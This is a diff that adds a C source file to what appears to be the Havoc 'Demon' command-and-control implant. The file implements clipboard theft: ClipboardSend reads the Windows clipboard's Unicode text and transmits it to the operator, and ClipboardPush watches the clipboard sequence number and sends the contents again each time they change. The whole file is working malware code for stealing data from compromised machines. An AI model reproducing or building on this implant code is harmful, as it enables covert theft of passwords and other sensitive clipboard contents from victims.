@@ -0,0 +1,66 @@
+#include <Demon.h>
+#include <core/Clipboard.h>
+#include <core/MiniStd.h>
+#include <core/Package.h>
+#include <core/Command.h>
+
+VOID ClipboardSend(
+    IN UINT32 Command,
+    IN UINT32 RequestID
+) {
+    PPACKAGE Package = NULL;
+    HANDLE   Handle  = NULL;
+    PWCHAR   Text    = NULL;
+    SIZE_T   Length  = 0;
+    BOOL     Opened  = FALSE;
+
+    Package = PackageCreateWithRequestID( DEMON_COMMAND_CLIPBOARD, RequestID );
+
+    PackageAddInt32( Package, Command );
+    PackageAddInt32( Package, Instance->Win32.GetClipboardSequenceNumber() );
+
+    if ( Instance->Win32.IsClipboardFormatAvailable( CF_UNICODETEXT ) && ( Opened = Instance->Win32.OpenClipboard( NULL ) ) ) {
+        if ( ( Handle = Instance->Win32.GetClipboardData( CF_UNICODETEXT ) ) ) {
+            Text = Instance->Win32.GlobalLock( Handle );
+        }
+    }
+
+    if ( Text ) {
+        if ( ( Length = StringLengthW( Text ) ) > CLIPBOARD_TEXT_MAX ) {
+            Length = CLIPBOARD_TEXT_MAX;
+        }
+
+        PackageAddBytes( Package, ( PBYTE ) Text, Length * sizeof( WCHAR ) );
+
+        Instance->Win32.GlobalUnlock( Handle );
+    } else {
+        PackageAddBytes( Package, NULL, 0 );
+    }
+
+    if ( Opened ) {
+        Instance->Win32.CloseClipboard();
+    }
+
+    PRINTF( "ClipboardSend: Command:[%d] Length:[%d]\n", Command, Length )
+
+    PackageTransmit( Package );
+}
+
+VOID ClipboardPush(
+    VOID
+) {
+    DWORD Sequence = 0;
+
+    if ( ! Instance->Clipboard.Monitor ) {
+        return;
+    }
+
+    /* increments on every change, no need to open the clipboard until then */
+    if ( ( Sequence = Instance->Win32.GetClipboardSequenceNumber() ) == Instance->Clipboard.Sequence ) {
+        return;
+    }
+
+    Instance->Clipboard.Sequence = Sequence;
+
+    ClipboardSend( CLIPBOARD_COMMAND_CHANGED, Instance->Clipboard.RequestID );
+}